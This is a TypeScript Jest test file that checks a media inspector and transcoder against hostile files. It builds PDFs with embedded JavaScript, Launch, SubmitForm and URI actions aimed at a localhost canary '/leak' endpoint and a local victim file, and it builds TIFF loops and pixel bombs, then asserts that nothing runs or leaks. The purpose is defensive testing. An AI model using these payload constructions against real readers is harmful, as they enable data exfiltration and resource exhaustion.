import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import sharp from 'sharp';
import { defaultLimits } from '../../src/inspect/accepted-media.ts';
import { createInspector } from '../../src/inspect/media-inspector.ts';
import { createTranscoder } from '../../src/transcode/media-transcoder.ts';
import { lookInChild, openInChild, PictureTooLarge } from '../../src/transcode/pictures/picture-job.ts';
import { pictureGuards } from '../../src/transcode/pictures/picture-source.ts';
import { booklet, type PdfObject, rectangle, words } from '../fixtures/pdf-maker.ts';
import { tiff } from '../fixtures/tiff-maker.ts';
import { deltaE2000 } from '../support/delta-e.ts';

jest.setTimeout(240_000);
const never = new AbortController().signal;

let folder: string;
let canary: Server;
let heard = 0;
let address: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hostile-pictures-'));
  canary = createServer((socket) => {
    heard += 1;
    socket.on('error', () => undefined).resume();
    socket.end('HTTP/1.1 404 Not Found\r\n\r\n');
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  const at = canary.address();
  address = `http://127.0.0.1:${typeof at === 'object' && at ? at.port : 0}/leak`;
});
afterAll(async () => {
  await new Promise((resolve) => canary.close(resolve));
  await rm(folder, { recursive: true, force: true });
});

async function write(name: string, bytes: Buffer): Promise<string> {
  const path = join(await mkdtemp(join(folder, 'case-')), name);
  await writeFile(path, bytes);
  return path;
}

async function inspect(path: string) {
  return createInspector().inspect(path, await mkdtemp(join(folder, 'look-')), never);
}

async function reason(path: string): Promise<string> {
  const found = await inspect(path);
  return found.kind === 'refused' ? found.reason : `accepted: ${JSON.stringify(found.facts)}`;
}

/** Inspects and transcodes, and gives every byte that came of it, and the colour in the middle of its first picture. */
async function made(path: string) {
  const found = await inspect(path);
  if (found.kind === 'refused') throw new Error(found.reason);
  const scratch = await mkdtemp(join(folder, 'work-'));
  const { files } = await createTranscoder().transcode(path, found.facts, scratch, () => undefined, never);
  const left = await readdir(scratch, { recursive: true, withFileTypes: true });
  const bytes = await Promise.all(
    left.filter((each) => each.isFile()).map((each) => readFile(join(each.parentPath, each.name))),
  );
  const picture = files.find(({ name }) => name.endsWith('image-320.jpg'));
  const { data, info } = await sharp(picture?.path).raw().toBuffer({ resolveWithObject: true });
  const middle = (Math.floor(info.height / 2) * info.width + Math.floor(info.width / 2)) * info.channels;
  return { facts: found.facts, bytes: Buffer.concat(bytes), middle: [...data.subarray(middle, middle + 3)] };
}

const white = [255, 255, 255];

describe('a PDF that means to do more than be read', () => {
  it('runs nothing, opens nothing and hands nothing on', async () => {
    const victim = await write(
      'victim.txt',
      Buffer.from(rectangle('1 0 0', 0, 0, 595, 842) + words('VICTIM')),
    );
    const script = `app.launchURL("${address}", true); this.submitForm("${address}"); app.alert("STOWAWAY");`;
    const others: PdfObject[] = [
      `/S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')})`,
      `/Type /Filespec /F (${victim}) /UF (${victim})`,
      { head: '/Type /EmbeddedFile', bytes: 'STOWAWAY in a file' },
      { head: '', bytes: `<xdp><script>STOWAWAY</script><submit target="${address}"/></xdp>` },
    ];
    const [act, file, embedded, form] = [6, 7, 8, 9];
    const link = (action: string) =>
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << ${action} >> >>`;
    const links = [
      `/S /URI /URI (${address})`,
      `/S /Launch /F (${victim})`,
      `/S /GoToR /F << /FS /URL /F (${address}) >> /D [0 /Fit]`,
      `/S /ImportData /F (${victim})`,
      `/S /SubmitForm /F << /FS /URL /F (${address}) >>`,
    ];
    const bytes = booklet(
      [
        {
          more: `/AA << /O ${act} 0 R >> /Annots [${links.map(link).join(' ')}]`,
          // What it draws lies in another file, by its own word.
          head: `/F (${victim}) /FFilter []`,
        },
      ],
      {
        more:
          `/OpenAction ${act} 0 R /AcroForm << /Fields [] /XFA ${form} 0 R >> ` +
          `/Names << /JavaScript << /Names [(a) ${act} 0 R] >> ` +
          `/EmbeddedFiles << /Names [(s) << /Type /Filespec /F (s) /EF << /F ${embedded} 0 R >> >>] >> >>` +
          ` /AF [${file} 0 R]`,
        others,
      },
    );
    const { facts, bytes: out, middle } = await made(await write('trap.pdf', bytes));
    expect(JSON.stringify(facts)).not.toMatch(/VICTIM|STOWAWAY|leak/);
    for (const word of ['VICTIM', 'STOWAWAY', 'JavaScript', '/leak']) expect(out.includes(word)).toBe(false);
    expect(deltaE2000(middle, white)).toBeLessThan(1);
    expect(heard).toBe(0);
  });

  it('with a picture in another file, or at an address, shows none', async () => {
    for (const target of [
      `(${await write('victim.raw', Buffer.alloc(300, 1))})`,
      `<< /FS /URL /F (${address}) >>`,
    ]) {
      const image = `/Type /XObject /Subtype /Image /Width 10 /Height 10 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F ${target}`;
      const bytes = booklet(
        [{ draws: 'q 595 0 0 842 0 0 cm /Im Do Q', more: '/Resources << /XObject << /Im 6 0 R >> >>' }],
        {
          others: [{ head: image, bytes: '' }],
        },
      );
      const { middle } = await made(await write('outside.pdf', bytes));
      // The picture would be nearly black; what is not there is white, or a blank of no content.
      expect(deltaE2000(middle, [1, 1, 1])).toBeGreaterThan(3);
      expect(heard).toBe(0);
    }
  });

  it('of ten thousand pages is refused at once', async () => {
    const path = await write('long.pdf', booklet(Array.from({ length: 10_000 }, () => ({}))));
    const started = Date.now();
    expect(await reason(path)).toMatch(/at most 100 pages/);
    expect(Date.now() - started).toBeLessThan(30_000);
  });

  it('that claims ten thousand pages and has one, or draws itself without end, comes to an end', async () => {
    const claims = booklet([{ draws: words('one') }])
      .toString('latin1')
      .replace('/Count 1', '/Count 9');
    expect(await reason(await write('claims.pdf', Buffer.from(claims, 'latin1')))).toMatch(
      /^accepted|^The document/,
    );
    const form =
      '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /Im 6 0 R >> >>';
    const again = booklet([{ draws: '/Im Do', more: '/Resources << /XObject << /Im 6 0 R >> >>' }], {
      others: [{ head: form, bytes: '/Im Do /Im Do /Im Do' }],
    });
    expect(deltaE2000((await made(await write('again.pdf', again))).middle, white)).toBeLessThan(1);
  });
});

describe('a TIFF that means harm', () => {
  const pixels = Buffer.alloc(40 * 30 * 3, 90);
  const page = { width: 40, height: 30, pixels };

  it('in a circle, or of a thousand pages, ends at once', async () => {
    expect(await reason(await write('loop.tif', tiff([page, page, page], { loop: true })))).toMatch(
      /part of it is missing/,
    );
    const many = tiff(Array.from({ length: 1000 }, () => page));
    expect(await reason(await write('many.tif', many))).toMatch(/at most 100 pages/);
  });

  it('that swells is refused before it is opened, on whichever page', async () => {
    const bomb = { ...page, width: 40_000, height: 40_000 };
    expect(await reason(await write('bomb.tif', tiff([bomb])))).toMatch(/at most 100 million dots/);
    expect(await reason(await write('later.tif', tiff([page, page, bomb])))).toMatch(
      /at most 100 million dots/,
    );
  });
});

describe('memory', () => {
  it('of the child stays within its limit for 99 million dots in four inks', async () => {
    const path = join(folder, 'inks.jpg');
    // Mixed once and then made large as it is: mixing inks for each dot takes half a minute.
    const ink = sharp({ create: { width: 100, height: 100, channels: 3, background: '#c83232' } });
    await sharp(await ink.toColourspace('cmyk').jpeg().toBuffer())
      .pipelineColourspace('cmyk')
      .resize({ width: 9900, height: 9900, fit: 'fill', kernel: 'nearest' })
      .toColourspace('cmyk')
      .jpeg({ quality: 60, progressive: true })
      .toFile(path);
    expect(await sharp(path).metadata()).toMatchObject({ space: 'cmyk', isProgressive: true, width: 9900 });
    const scratch = await mkdtemp(join(folder, 'work-'));
    const { opened, finished } = openInChild(
      {
        source: { path, container: 'jpeg', maxPixels: 1e8, large: true },
        largest: { width: 2560, height: 2560 },
        to: join(scratch, 'pixels.raw'),
        tiles: null,
      },
      pictureGuards(scratch, defaultLimits, never),
    );
    await finished;
    expect((await opened).peak).toBeLessThan(defaultLimits.tools.pictureMemory);
    expect((await readFile(join(scratch, 'pixels.raw'))).length).toBe(2560 * 2560 * 3);
  });

  it('that an AVIF of two kilobytes asks for is not given, and its sender told what can be', async () => {
    const path = join(folder, 'flat.avif');
    await sharp({ create: { width: 9900, height: 9900, channels: 3, background: '#c83232' } })
      .avif({ effort: 0 })
      .toFile(path);
    expect((await readFile(path)).length).toBeLessThan(4000);
    expect(await reason(path)).toMatch(
      /^The picture is too large for us to open\. Save a copy with at most 24 million dots/,
    );
    // And that is so.
    await sharp({ create: { width: 4890, height: 4890, channels: 4, background: '#c8323280' } })
      .avif({ effort: 0, bitdepth: 10, chromaSubsampling: '4:4:4' })
      .toFile(path);
    expect(await reason(path)).toMatch(/^accepted/);
  });

  it('that is short shows as too little memory, not as damage', async () => {
    const path = join(folder, 'whole.webp');
    await sharp({ create: { width: 6000, height: 6000, channels: 3, background: '#c83232' } })
      .webp({ lossless: true, effort: 0 })
      .toFile(path);
    const guards = {
      ...pictureGuards(await mkdtemp(join(folder, 'work-')), defaultLimits, never),
      memory: 200e6,
    };
    const source = { path, container: 'webp', maxPixels: 1e8, large: true } as const;
    await expect(lookInChild([source], guards)).rejects.toBeInstanceOf(PictureTooLarge);
  });
});
